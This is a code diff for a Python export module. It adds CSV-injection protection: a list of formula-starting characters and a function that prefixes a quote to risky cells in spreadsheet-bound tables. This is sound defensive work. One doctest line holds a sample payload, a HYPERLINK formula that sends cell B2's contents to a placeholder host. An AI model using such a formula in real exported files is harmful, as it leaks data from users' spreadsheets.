@@ -30,6 +30,8 @@ if TYPE_CHECKING:  # pragma: no cover
 
 __all__ = [
     "EXPORT_FORMATS",
+    "FORMULA_STARTS",
+    "spreadsheet_safe",
     "HISTORY_FORMATS",
     "CSV_FILES",
     "default_path",
@@ -241,12 +243,35 @@ def _csv_cell(value: Any) -> str:
     return str(value)
 
 
-def _csv_text(columns: list[str], rows: list[dict]) -> str:
+#: What starts a formula in Excel, LibreOffice and Google Sheets (OWASP's list for CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(text: str) -> str:
+    """Text a spreadsheet shows as text: a cell that would start a formula gets a leading ``'`` (OWASP's rule).
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://x.example/?"&B2,"潜江")'))
+    '=HYPERLINK("http://x.example/?"&B2,"潜江")
+    >>> spreadsheet_safe("潜江市"), spreadsheet_safe("-")
+    ('潜江市', "'-")
+    """
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def _csv_text(columns: list[str], rows: list[dict], spreadsheet: bool = False) -> str:
+    """CSV text of ``rows``; with ``spreadsheet``, text cells that would start a formula are neutralised (numbers,
+    negative ones included, are written as they are)."""
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\n")
-    writer.writerow(columns)
+    writer.writerow([spreadsheet_safe(c) for c in columns] if spreadsheet else columns)
     for row in rows:
-        writer.writerow([_csv_cell(row.get(c)) for c in columns])
+        if spreadsheet:
+            cells = [row.get(c) for c in columns]
+            writer.writerow(
+                [spreadsheet_safe(_csv_cell(v)) if isinstance(v, str | list | tuple) else _csv_cell(v) for v in cells]
+            )
+        else:
+            writer.writerow([_csv_cell(row.get(c)) for c in columns])
     return buffer.getvalue()
 
 
@@ -260,9 +285,10 @@ def _csv_tables(model: Model) -> dict[str, str]:
     return {
         "entities.csv": _csv_text(ENTITY_COLUMNS, entities),
         "relations.csv": _csv_text(RELATION_COLUMNS, relations),
-        "adoption_matrix.csv": _csv_text(matrix.columns, matrix.rows),
-        "adoptions.csv": _csv_text(long.columns, long.rows),
-        "dyads.csv": _csv_text(pairs.columns, pairs.rows),
+        # the tables meant for spreadsheets are neutralised; entities.csv and relations.csv stay exact (a dataset)
+        "adoption_matrix.csv": _csv_text(matrix.columns, matrix.rows, spreadsheet=True),
+        "adoptions.csv": _csv_text(long.columns, long.rows, spreadsheet=True),
+        "dyads.csv": _csv_text(pairs.columns, pairs.rows, spreadsheet=True),
     }
 
 
@@ -364,7 +390,7 @@ def write_history_table(model: Model, fmt: str, path: str | os.PathLike, time_un
         table = diffusion.spid_table(model)
     else:
         table = diffusion.dyad_years(model)
-    return [write_atomic(path, "\ufeff" + _csv_text(table.columns, table.rows))]
+    return [write_atomic(path, "\ufeff" + _csv_text(table.columns, table.rows, spreadsheet=True))]
 
 
 _WRITERS = {
